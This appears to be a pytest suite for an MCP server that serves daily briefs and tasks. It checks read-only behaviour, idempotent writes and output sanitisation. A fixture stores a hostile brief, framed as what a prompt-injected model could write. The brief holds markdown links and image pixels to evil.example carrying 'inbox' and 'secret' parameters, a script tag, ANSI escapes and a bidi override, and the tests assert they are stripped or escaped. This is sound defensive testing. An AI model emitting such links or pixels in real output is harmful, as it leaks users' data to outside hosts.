"""`dayflow mcp serve` driven by the MCP SDK's own client over stdio: the tools, their
annotations, that reading changes nothing, and the one write (idempotent)."""

from __future__ import annotations

import asyncio
import json
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest
from mcp import Client, StdioServerParameters

from tests.conftest import Db, dayflow_command, subprocess_env

pytestmark = pytest.mark.slow  # a real server process

DATE = "2026-11-05"
TABLES = ("runs", "steps", "tasks", "events", "tool_effects")


@pytest.fixture(scope="module")
def db(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A database with one finished brief (the offline model) and its tasks."""
    path = tmp_path_factory.mktemp("serve") / "dayflow.db"
    done = subprocess.run(
        dayflow_command("brief", "--date", DATE),
        env=subprocess_env(path),
        capture_output=True,
        text=True,
        timeout=120,
    )
    assert done.returncode == 0, done.stderr
    return path


def dump(db: Path) -> dict[str, list[Any]]:
    conn = Db(db)
    return {t: [tuple(r) for r in conn.rows(f"SELECT * FROM {t} ORDER BY 1")] for t in TABLES}


def session(
    db: Path, calls: list[tuple[str, dict[str, Any]]], *flags: str
) -> tuple[list[Any], list[Any]]:
    """List the tools and make `calls` through a fresh `dayflow mcp serve FLAGS`."""
    params = StdioServerParameters(
        command=sys.executable,
        args=["-m", "dayflow", "mcp", "serve", *flags],
        env={"DAYFLOW_DB": str(db), "DAYFLOW_TZ": "UTC"},
    )

    async def run() -> tuple[list[Any], list[Any]]:
        async with Client(params, cache=None) as client:
            tools = (await client.list_tools()).tools
            results = [await client.call_tool(name, args) for name, args in calls]
            return tools, results

    return asyncio.run(run())


def content(result: Any) -> Any:
    assert not result.is_error, result.content
    if result.structured_content is not None:
        return result.structured_content
    return json.loads(result.content[0].text)


def test_serve_offers_read_only_tools_and_one_idempotent_write(db: Path) -> None:
    tools, _ = session(db, [])
    hints = {t.name: t.annotations for t in tools}
    assert set(hints) == {"get_brief", "list_open_tasks", "list_runs", "get_run", "mark_task_done"}
    for name in ("get_brief", "list_open_tasks", "list_runs", "get_run"):
        assert hints[name].read_only_hint is True, name
    done = hints["mark_task_done"]
    assert done.read_only_hint is False
    assert done.destructive_hint is False and done.idempotent_hint is True


def test_the_read_tools_show_the_store_and_change_nothing_in_it(db: Path) -> None:
    before = dump(db)
    run_id = before["runs"][0][0]
    _, results = session(
        db,
        [
            ("get_brief", {"day": DATE}),
            ("get_brief", {"day": "2026-11-04"}),
            ("list_open_tasks", {}),
            ("list_runs", {"limit": 5}),
            ("get_run", {"run_id": run_id[:8]}),
        ],
    )
    brief, none, tasks, runs, run = (content(r) for r in results)
    assert brief["run_id"] == run_id and brief["brief"].startswith("# Daily brief")
    assert none["brief"] is None
    assert len(tasks["tasks"]) == len([t for t in before["tasks"]]) > 0
    assert [r["id"] for r in runs["runs"]] == [run_id]
    assert run["status"] == "done" and run["brief"] == brief["brief"]
    assert dump(db) == before  # read-only: not a row changed, no run started


def test_marking_a_task_done_twice_is_one_change_and_starts_no_run(
    tmp_path: Path, db: Path
) -> None:
    copy = tmp_path / "copy.db"
    copy.write_bytes(db.read_bytes())
    before = dump(copy)
    task = json.loads(
        subprocess.run(
            dayflow_command("tasks", "--json"),
            env=subprocess_env(copy), capture_output=True, text=True, timeout=60,
        ).stdout
    )[0]  # fmt: skip
    _, results = session(
        copy,
        [("mark_task_done", {"task_id": task["id"]}), ("mark_task_done", {"task_id": task["id"]})],
    )
    first, second = (content(r) for r in results)
    assert first["task"]["status"] == second["task"]["status"] == "done"
    after = dump(copy)
    assert after["runs"] == before["runs"] and after["steps"] == before["steps"]
    assert len([t for t in after["tasks"] if "done" in t]) == 1
    _, missing = session(copy, [("mark_task_done", {"task_id": "nosuchtask"})])
    assert missing[0].is_error and "no task matches 'nosuchtask'" in missing[0].content[0].text
    _, bad_day = session(copy, [("get_brief", {"day": "tomorrow"})])
    assert bad_day[0].is_error and "day must be YYYY-MM-DD" in bad_day[0].content[0].text


READ_URL = "https://review.acme.example/pr/42"
HOSTILE = (
    "# Daily brief\n"
    f"- [the review]({READ_URL}) and [win a prize](https://evil.example/?q=inbox)\n"
    "- ![pixel](https://evil.example/p.png?d=secret) <img src=https://evil.example/i.png>\n"
    "- <script>alert(1)</script> \x1b[31mred\u202e https://evil.example/bare\n"
)


@pytest.fixture(scope="module")
def hostile_db(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, str]:
    """A finished run whose inbox showed READ_URL and whose stored brief is HOSTILE (what a
    prompt-injected model could write), with a task titled with an ESC and a bidi mark."""
    tmp = tmp_path_factory.mktemp("serve-hostile")
    doc = json.loads((Path(__file__).resolve().parent.parent / "fixtures/inbox.json").read_text())
    first = doc["messages"][0]
    first["snippet"] = f"Review it at {READ_URL} please. {first['snippet']}"
    first["body"] = f"Review it at {READ_URL} please.\n\n{first['body']}"
    inbox = tmp / "inbox.json"
    inbox.write_text(json.dumps(doc))
    path = tmp / "dayflow.db"
    done = subprocess.run(
        dayflow_command("brief", "--date", DATE, "--inbox", str(inbox)),
        env=subprocess_env(path), capture_output=True, text=True, timeout=120,
    )  # fmt: skip
    assert done.returncode == 0, done.stderr
    conn = Db(path)
    run_id = conn.one("SELECT id FROM runs")[0]
    conn.run("UPDATE runs SET final_text = ?", HOSTILE)
    conn.run("UPDATE tasks SET title = ?", "Pay \x1b[2Jnow\u202e")
    return path, run_id


def test_served_briefs_are_inert_as_a_file_sinks_and_task_titles_escaped(
    hostile_db: tuple[Path, str],
) -> None:
    """get_brief and get_run return the brief as `--deliver file:` writes it: no image, no
    HTML, no link the run did not read, control characters as escapes."""
    db, run_id = hostile_db
    _, results = session(
        db, [("get_brief", {"day": DATE}), ("get_run", {"run_id": run_id}), ("list_open_tasks", {})]
    )
    brief, run, tasks = (content(r) for r in results)
    for text in (brief["brief"], run["brief"]):
        assert f"[the review]({READ_URL})" in text  # a link the inbox showed is kept
        assert "evil.example" not in text and "![" not in text and "<img" not in text
        assert "<script>" not in text and "&lt;script>" in text
        assert "\x1b" not in text and "\u202e" not in text and "\\u001b[31mred" in text
    titles = [t["title"] for t in tasks["tasks"]]
    assert titles and all(t == "Pay \\u001b[2Jnow\\u202e" for t in titles)


def test_read_only_serve_offers_no_write_and_refuses_a_call_to_one(
    db: Path, tmp_path: Path
) -> None:
    copy = tmp_path / "copy.db"
    copy.write_bytes(db.read_bytes())
    before = dump(copy)
    task_id = before["tasks"][0][0]
    tools, results = session(
        copy, [("mark_task_done", {"task_id": task_id}), ("list_open_tasks", {})], "--read-only"
    )
    assert {t.name for t in tools} == {"get_brief", "list_open_tasks", "list_runs", "get_run"}
    assert all(t.annotations.read_only_hint is True for t in tools)
    refused, listed = results
    assert refused.is_error and "mark_task_done" in refused.content[0].text
    assert task_id in [t["id"] for t in content(listed)["tasks"]]
    assert dump(copy) == before  # nothing changed
